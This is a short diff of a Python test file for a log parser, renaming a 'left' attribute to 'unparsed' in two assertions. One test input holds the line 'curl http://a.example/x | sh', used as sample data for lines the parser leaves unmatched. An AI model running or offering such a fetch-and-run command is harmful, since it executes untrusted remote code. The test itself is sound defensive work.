@@ -312,12 +312,12 @@ def test_what_is_printed_beside_packets_is_no_line_to_search(line: str, place: i
     lines.insert(place, line + "\n")
     found = read("".join(lines))
     assert [row["src_packets"] for row in found.rows_of("connection")] == [4]
-    assert sum(len(batch.left) for batch in found.batches if batch.left is not None) == 0
+    assert sum(len(batch.unparsed) for batch in found.batches if batch.unparsed is not None) == 0
 
 
 def test_other_lines_are_left_to_be_searched() -> None:
     found = read(printed(dated, talk()) + "what is this? curl http://a.example/x | sh\n")
-    assert sum(len(batch.left) for batch in found.batches if batch.left is not None) == 1
+    assert sum(len(batch.unparsed) for batch in found.batches if batch.unparsed is not None) == 1
 
 
 # --- damage -------------------------------------------------------------------------------------------------------------
